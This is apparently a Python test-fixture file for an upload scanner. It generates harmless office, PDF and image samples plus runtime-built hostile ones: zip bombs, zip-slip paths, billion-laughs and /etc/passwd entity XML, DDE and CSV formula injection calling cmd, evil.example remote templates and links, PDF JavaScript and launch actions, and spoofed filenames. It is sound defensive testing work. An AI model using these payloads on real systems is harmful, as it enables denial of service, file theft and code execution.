"""Files that must not get in, made on the spot: nothing hostile is kept in the repository.

HOSTILE: name of the attack → (the name it is uploaded under, how its bytes are made). HONEST: what must still get in.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

import docx
import openpyxl
import pikepdf
from odf.opendocument import OpenDocumentSpreadsheet, OpenDocumentText
from odf.text import P
from PIL import Image

from councils.file_checks.harmful import EICAR

Make = Callable[[], bytes]

# -- honest files


def word(text: str = "The audit of the autumn term.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    return _saved(document.save)


def workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.append(["Theme", "Good or better"])
    sheet.append(["Supervision", 12])
    sheet["B3"] = "=SUM(B2:B2)"
    return _saved(book.save)


def odt() -> bytes:
    document = OpenDocumentText()
    document.text.addElement(P(text="What families told us."))
    return _saved(document.save)


def ods() -> bytes:
    return _saved(OpenDocumentSpreadsheet().save)


def slides(**extra: bytes) -> bytes:
    """The least that is a presentation."""
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zipped({
        "[Content_Types].xml": _types("/ppt/presentation.xml", main),
        "_rels/.rels": relationships(("officeDocument", "ppt/presentation.xml", "")),
        "ppt/presentation.xml": b"<p:presentation xmlns:p='urn:p'/>",
        **extra,
    })  # fmt: skip


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **save: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    return _saved(lambda out: document.save(out, **save))


def image(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    return _saved(lambda out: Image.new("RGB", size, "teal").save(out, kind))


HONEST: Mapping[str, Make] = {
    "report.pdf": pdf,
    "minutes.docx": word,
    "audit.xlsx": workbook,
    "slides.pptx": slides,
    "slides-with-chart.pptx": lambda: slides(**{"ppt/embeddings/sheet1.xlsx": workbook()}),
    "from-our-template.docx": lambda: _word_with("attachedTemplate", "file:///C:\\Templates\\Report.dotx"),
    "with-links.docx": lambda: _word_with("hyperlink", "https://www.gov.uk/"),
    "with-page-numbers.docx": lambda: _word_field(
        " PAGE \\* MERGEFORMAT ", ' HYPERLINK "https://www.gov.uk/" '
    ),
    "letter.odt": odt,
    "figures.ods": ods,
    "figures.csv": lambda: "\ufeffTheme,Change\nSupervision,-5\nVisits,+12%\nNote,- none -\n".encode(),
    "notes.txt": lambda: "Families said they felt heard – mostly.\r\n".encode("cp1252"),
    "notes-unicode.txt": lambda: "What children said".encode("utf-16"),
    "notes.md": lambda: b"# Findings\n\n- a < b and <em>more</em>\n",
    "wall.png": lambda: image("PNG"),
    "wall.jpg": lambda: image("JPEG"),
}

# -- tools


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    save(out)
    return out.getvalue()


def zipped(parts: Mapping[str, bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name) if stored else name, content)
    return out.getvalue()


def changed(original: bytes, change: Mapping[str, bytes]) -> bytes:
    """The same archive with parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, **change})


def relationships(*rows: tuple[str, str, str]) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{base}{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{package}">{lines}</Relationships>'.encode()


OUTSIDE = ' TargetMode="External"'


def _types(part: str, kind: str) -> bytes:
    package = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'<Types xmlns="{package}"><Override PartName="{part}" ContentType="{kind}"/></Types>'.encode()


def _word_with(kind: str, target: str) -> bytes:
    return changed(word(), {"word/_rels/settings.xml.rels": relationships((kind, target, OUTSIDE))})


def _word_field(*runs: str) -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return changed(
        word(),
        {"word/footnotes.xml": f'<w:document xmlns:w="{space}"><w:p>{said}</w:p></w:document>'.encode()},
    )


def _quoted_field() -> bytes:
    """DDEAUTO written as the numbers of its letters, in a field inside the field."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    quoted = "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"
    said = f"{begin}{begin}{quoted}{end}<w:instrText> cmd</w:instrText>{end}"
    return changed(word(), {"word/footnotes.xml": f'<w:d xmlns:w="{space}"><w:p>{said}</w:p></w:d>'.encode()})


def _laughs(root: str) -> bytes:
    entities = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "ha">' for n in range(10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]><{root}>&a9;</{root}>'.encode()


def _outside_entity(root: str) -> bytes:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]><{root}>&x;</{root}>'.encode()


def _packed(megabytes: int, of: bytes = b"\0") -> bytes:
    """Raw deflate of so many megabytes of one byte, made from one packed megabyte."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = pack.compress(of * 1024**2) + pack.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + b"\x03\0"


def _bomb() -> bytes:
    """A part that unpacks to 2 GB of nothing, and says so."""
    return _raw_zip([("word/media/image1.png", _packed(2048), 0, 2 * 1024**3)])


def _raw_zip(
    parts: list[tuple[str, bytes, int, int]], *, declared: int | None = None, method: int = 8
) -> bytes:
    """A ZIP written by hand from already packed parts, so that its directory may lie."""
    out, directory = bytearray(), bytearray()
    for name, packed, check, size in parts:
        at, said = len(out), size if declared is None else declared
        fields = (20, 0, method, 0, 33, check, len(packed), said, len(name), 0)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name.encode() + packed
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, at) + name.encode()
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(directory), len(out), 0)
    return bytes(out + directory + end)


def _lying_bomb() -> bytes:
    """Says 100 bytes, unpacks to 400 MB."""
    return _raw_zip([("[Content_Types].xml", _packed(400), 0, 0)], declared=100)


def _overlapping() -> bytes:
    """A bomb without nesting: a thousand directory entries share one packed block."""
    whole = zlib.compress(b"\0" * 1024**2, 9)[2:-4]
    archive = bytearray(_raw_zip([("[Content_Types].xml", whole, zlib.crc32(b"\0" * 1024**2), 1024**2)]))
    start = archive.index(b"PK\x01\x02")
    entry = bytes(archive[start : archive.index(b"PK\x05\x06")])
    entries = b"".join(entry[:28] + struct.pack("<H", 19) + entry[30:] for _ in range(150))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 150, 150, len(entries), start, 0)
    return bytes(archive[:start]) + entries + end


def _many_parts() -> bytes:
    return zipped({"[Content_Types].xml": b"<a/>", **{f"word/{n}.xml": b"<a/>" for n in range(20_000)}})


def _nested() -> bytes:
    inner = zipped({"deep.txt": b"\0" * 1024**2})
    for _ in range(5):
        inner = zipped({f"{n}.zip": inner for n in range(10)})
    return changed(word(), {"word/media/image1.zip": inner})


def _encrypted_office() -> bytes:
    """The look of a password-protected workbook: an OLE container with a stream named EncryptedPackage."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(2048, b"\0") + "EncryptedPackage".encode("utf-16-le") * 2


def _zip_with_password() -> bytes:
    archive = bytearray(word())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = archive.find(mark)
        while place >= 0:
            archive[place + at] |= 1
            place = archive.find(mark, place + 4)
    return bytes(archive)


def _encrypted_odt() -> bytes:
    manifest = (
        b'<manifest:manifest xmlns:manifest="urn:m"><manifest:file-entry manifest:full-path="content.xml">'
        b"<manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    )
    return changed(odt(), {"META-INF/manifest.xml": manifest})


def _odt_content(inside: str) -> bytes:
    return changed(
        odt(), {"content.xml": f'<o:doc xmlns:o="urn:o" xmlns:x="urn:x">{inside}</o:doc>'.encode()}
    )


def _action(**entries: object) -> Callable[[pikepdf.Pdf], object]:
    def put(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(**entries)

    return put


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["tool.exe"] = b"MZ not a real program"


def _note(subtype: str) -> Callable[[pikepdf.Pdf], object]:
    def put(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9])
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    return put


def _hidden_script(document: pikepdf.Pdf) -> None:
    """Nothing leads to it; it lies in the file all the same."""
    document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    document.Root.Kept = document.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(A=[pikepdf.Dictionary(JS="app.alert(2)")])])
    )


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=[])


def _pdf_bomb() -> bytes:
    """An object stream of 1 GB of blanks in a megabyte: whoever asks for the object unpacks it."""
    pack = zlib.compressobj(9)
    packed = pack.compress(b"5 0 ") + pack.flush(zlib.Z_FULL_FLUSH) + _packed(1024, b" ") + b"\0\0\0\0"
    body = b"%PDF-1.7\n"
    first = len(body)
    body += b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
    second = len(body)
    body += b"2 0 obj <</Type/Pages/Kids[5 0 R]/Count 1>> endobj\n"
    stream = len(body)
    body += (
        b"4 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n" % len(packed)
        + packed
        + b"\nendstream endobj\n"
    )
    at = len(body)
    rows = b"".join(
        struct.pack(">BIH", kind, place, more)
        for kind, place, more in [
            (0, 0, 65535), (1, first, 0), (1, second, 0), (1, at, 0), (1, stream, 0), (2, 4, 0),
        ]
    )  # fmt: skip
    body += (
        b"3 0 obj <</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>> stream\n" % len(rows)
        + rows
        + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at
    )
    return body


def _png_of(width: int, height: int) -> bytes:
    """Says that it is huge; the picture itself is a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def _slow_xml() -> bytes:
    """Thirty million elements, packed no tighter than honest text: nothing to find, much to read."""
    some = random.Random(1)
    rows = b"".join(b"<b/>" * some.randint(1, 30) for _ in range(4000))
    return changed(word(), {"word/document.xml": b"<a>" + rows * 480 + b"</a>"})


def _deep_pdf() -> bytes:
    return pdf().replace(b"/Type /Page ", b"/X " + b"[" * 60_000 + b"]" * 60_000 + b"/Type /Page ", 1)


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PROGRAM = b"MZ\x90\0" + b"\0" * 200

HOSTILE: Mapping[str, tuple[str, Make]] = {
    # archives
    "zip bomb, 2 GB declared": ("audit.docx", _bomb),
    "zip bomb that lies about its size": ("audit.docx", _lying_bomb),
    "zip bomb of overlapping parts": ("audit.docx", _overlapping),
    "zip of 20,000 parts": ("audit.docx", _many_parts),
    "nested zips": ("audit.docx", _nested),
    "zip-slip, up": ("audit.docx", lambda: changed(word(), {"../../etc/cron.d/x": b"x"})),
    "zip-slip, absolute": ("audit.docx", lambda: changed(word(), {"/etc/passwd": b"x"})),
    "zip-slip, drive letter": ("audit.docx", lambda: changed(word(), {"C:/x.txt": b"x"})),
    "zip-slip, backslashes": ("audit.xlsx", lambda: changed(workbook(), {"..\\..\\x.txt": b"x"})),
    "parts with one name": ("audit.docx", lambda: changed(word(), {"WORD/DOCUMENT.XML": b"<a/>"})),
    "plain zip named docx": ("audit.docx", lambda: zipped({"a.txt": b"a"})),
    "zip cut in half": ("audit.docx", lambda: word()[: len(word()) // 2]),
    "something in front of the zip": ("audit.docx", lambda: b"#!/bin/sh\nreboot\n" + word()),
    "something behind the zip": ("audit.docx", lambda: word() + HTML),
    "a zip": ("audit.zip", lambda: zipped({"a.txt": b"a"})),
    # entities
    "billion laughs, workbook": ("a.xlsx", lambda: changed(workbook(), {"xl/workbook.xml": _laughs("workbook")})),
    "billion laughs, strings": ("a.xlsx", lambda: changed(workbook(), {"xl/sharedStrings.xml": _laughs("sst")})),
    "billion laughs, Word": ("a.docx", lambda: changed(word(), {"word/document.xml": _laughs("document")})),
    "billion laughs, OpenDocument": ("a.odt", lambda: changed(odt(), {"content.xml": _laughs("content")})),
    "outside entity, Word": ("a.docx", lambda: changed(word(), {"word/document.xml": _outside_entity("document")})),
    "outside entity, relationships": ("a.docx", lambda: changed(word(), {"_rels/.rels": _outside_entity("a")})),
    "outside entity, UTF-16": ("a.docx", lambda: changed(word(), {"word/document.xml": _outside_entity("document").decode().encode("utf-16")})),
    "thirty million elements": ("a.docx", _slow_xml),
    "a part of broken XML": ("a.docx", lambda: changed(word(), {"word/document.xml": b"<a><b></a>"})),
    # macros and what runs
    "macro workbook by name": ("a.xlsm", workbook),
    "macro document by name": ("a.docm", word),
    "macro workbook renamed": ("a.xlsx", lambda: changed(workbook(), {"[Content_Types].xml": _types("/xl/workbook.xml", MACRO_BOOK)})),
    "macros inside": ("a.xlsx", lambda: changed(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})),
    "macros inside, other case": ("a.docx", lambda: changed(word(), {"word/VBAPROJECT.BIN": b"x"})),
    "macros by relationship": ("a.docx", lambda: changed(word(), {"word/_rels/x.xml.rels": relationships(("vbaProject", "harmless.bin", ""))})),
    "Excel 4 macro sheet": ("a.xlsx", lambda: changed(workbook(), {"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "ActiveX": ("a.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": b"<a/>"})),
    "OLE object": ("a.docx", lambda: changed(word(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})),
    "program as a picture": ("a.docx", lambda: changed(word(), {"word/media/image1.png": PROGRAM})),
    "page as a part": ("a.docx", lambda: changed(word(), {"word/afchunk.html": HTML})),
    "macros in OpenDocument": ("a.odt", lambda: changed(odt(), {"Basic/Standard/Module1.xml": b"<a/>"})),
    "event listener in OpenDocument": ("a.odt", lambda: _odt_content('<o:event-listener x:href="vnd.sun.star.script:x"/>')),
    "slide that starts a program": ("a.pptx", lambda: slides(**{"ppt/slides/slide1.xml": b'<a><hlinkClick action="ppaction://program"/></a>'})),
    # from elsewhere
    "attached template": ("a.docx", lambda: _word_with("attachedTemplate", "https://evil.example/t.dotm")),
    "remote OLE link": ("a.docx", lambda: _word_with("oleObject", "mhtml:https://evil.example/x!x")),
    "remote picture": ("a.docx", lambda: _word_with("image", "file://evil.example/share/x.png")),
    "remote frame": ("a.docx", lambda: _word_with("frame", "https://evil.example/")),
    "link that runs": ("a.docx", lambda: _word_with("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "link in script": ("a.docx", lambda: _word_with("hyperlink", "java\nscript:alert(1)")),
    "DDE field": ("a.docx", lambda: _word_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
    "DDE field in pieces": ("a.docx", lambda: _word_field(" D", "DE", "AUTO cmd")),
    "remote picture by field": ("a.docx", lambda: _word_field('INCLUDEPICTURE "http://evil.example/x"')),
    "field whose name is made by a field": ("a.docx", _quoted_field),
    "DDE formula in OpenDocument": ("a.ods", lambda: changed(ods(), {"content.xml": b'<o:a xmlns:o="urn:o"><o:cell o:formula="of:=DDE(1)"/></o:a>'})),
    "DDE formula": ("a.xlsx", lambda: changed(workbook(), {"xl/worksheets/sheet9.xml": b"<a><f>cmd|'/c calc'!A0</f></a>"})),
    "web formula": ("a.xlsx", lambda: changed(workbook(), {"xl/worksheets/sheet9.xml": b'<a><f>WEBSERVICE("http://evil.example")</f></a>'})),
    "linked workbook": ("a.xlsx", lambda: changed(workbook(), {"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    "data connection": ("a.xlsx", lambda: changed(workbook(), {"xl/connections.xml": b"<a/>"})),
    "DDE in OpenDocument": ("a.ods", lambda: changed(ods(), {"content.xml": b'<o:a xmlns:o="urn:o"><o:dde-source/></o:a>'})),
    "remote picture in OpenDocument": ("a.odt", lambda: _odt_content('<o:image x:href="http://evil.example/x.png"/>')),
    # passwords
    "encrypted workbook": ("a.xlsx", _encrypted_office),
    "encrypted parts": ("a.docx", _zip_with_password),
    "encrypted OpenDocument": ("a.odt", _encrypted_odt),
    "encrypted PDF": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "encrypted PDF, opens by itself": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    # PDF
    "PDF with JavaScript": ("a.pdf", lambda: pdf(_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))),
    "PDF that launches": ("a.pdf", lambda: pdf(_action(S=pikepdf.Name.Launch, F="cmd.exe"))),
    "PDF that sends": ("a.pdf", lambda: pdf(_action(S=pikepdf.Name.SubmitForm, F="https://evil.example"))),
    "PDF with a hidden script": ("a.pdf", lambda: pdf(_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "PDF with a file": ("a.pdf", lambda: pdf(_attach)),
    "PDF with a film": ("a.pdf", lambda: pdf(_note("/RichMedia"))),
    "PDF with a file note": ("a.pdf", lambda: pdf(_note("/FileAttachment"))),
    "PDF with an XFA form": ("a.pdf", lambda: pdf(_xfa)),
    "PDF that unpacks to 1 GB": ("a.pdf", _pdf_bomb),
    "PDF nested 60,000 deep": ("a.pdf", _deep_pdf),
    "PDF and page, page first": ("a.pdf", lambda: HTML + pdf()),
    "PDF and page, in its head": ("a.pdf", lambda: b"%PDF-1.7\n%" + HTML + pdf()[8:]),
    "PDF and page, behind": ("a.pdf", lambda: pdf() + HTML),
    "PDF and zip": ("a.pdf", lambda: pdf() + zipped({"a.txt": b"a"})),
    "PDF cut in half": ("a.pdf", lambda: pdf()[: len(pdf()) // 2]),
    # pictures
    "SVG": ("a.svg", lambda: SVG),
    "SVG named png": ("a.png", lambda: SVG),
    "picture of 2 million pixels a side": ("a.png", lambda: _png_of(2_000_000, 2_000_000)),
    "picture and zip": ("a.png", lambda: image("PNG") + zipped({"a.txt": b"a"})),
    "picture and page": ("a.jpg", lambda: image("JPEG") + HTML),
    "picture cut short": ("a.jpg", lambda: image("JPEG")[:100]),
    "GIF named jpg": ("a.jpg", lambda: image("GIF")),
    # text
    "page": ("a.html", lambda: HTML),
    "page named txt": ("a.txt", lambda: HTML),
    "page named md": ("a.md", lambda: b"# Title\n\n<script src=//evil.example></script>\n"),
    "page in UTF-16": ("a.txt", lambda: HTML.decode().encode("utf-16")),
    "program named txt": ("a.txt", lambda: PROGRAM),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nreboot\n"),
    "RTF named txt": ("a.txt", lambda: b"{\\rtf1 {\\object\\objautlink}}"),
    "CSV that runs": ("a.csv", lambda: b"Theme,Note\nA,=cmd|' /C calc'!A0\n"),
    "CSV that sends": ("a.csv", lambda: b'Theme;Note\nA;"  =HYPERLINK(""http://evil.example"")"\n'),
    "CSV that adds and runs": ("a.csv", lambda: b"Theme,Note\nA,+cmd|' /C calc'!A0\nB,@SUM(1)\n"),
    "EICAR": ("a.txt", lambda: EICAR),
    "EICAR in a document": ("a.docx", lambda: changed(word(), {"word/media/image1.png": EICAR})),
    # names and sizes
    "two endings, program last": ("report.pdf.exe", pdf),
    "no ending": ("report", pdf),
    "nothing but an ending": (".pdf", pdf),
    "stream of Windows": ("report.pdf::$DATA", pdf),
    "NUL in the name": ("report.pdf\0.exe", pdf),
    "right-to-left name": ("report\u202efdp.exe", pdf),
    "0 bytes": ("a.pdf", lambda: b""),
    "0 bytes, text": ("a.txt", lambda: b""),
    "too large": ("a.txt", lambda: b"a" * (25 * 1024**2 + 1)),
    "spreadsheet named docx": ("a.docx", workbook),
    "document named pdf": ("a.pdf", word),
    "PDF named docx": ("a.docx", pdf),
    "old Word file": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "old Word file named docx": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
}  # fmt: skip

# Names that come out harmless: what was sent, and under what it is kept.
NAMES: Mapping[str, str] = {
    "../../etc/passwd.txt": "passwd.txt",
    "..\\..\\windows\\win.txt": "win.txt",
    "C:\\Users\\olive\\notes.txt": "notes.txt",
    "notes\u202etxt.exe.txt": "notestxt_exe.txt",
    "report.exe.txt": "report_exe.txt",
    "report.html.txt": "report_html.txt",
    "a\r\nSet-Cookie: x=1.txt": "aSet-Cookie x=1.txt",
    '"><script>.txt': "script.txt",
    "con.txt": "_con.txt",
    "notes .txt. . ": "notes.txt",
    "\u2066notes\u2069.txt": "notes.txt",
    "x" * 300 + ".txt": "x" * 180 + ".txt",
    "Über die Kinder – März.txt": "Über die Kinder – März.txt",
}
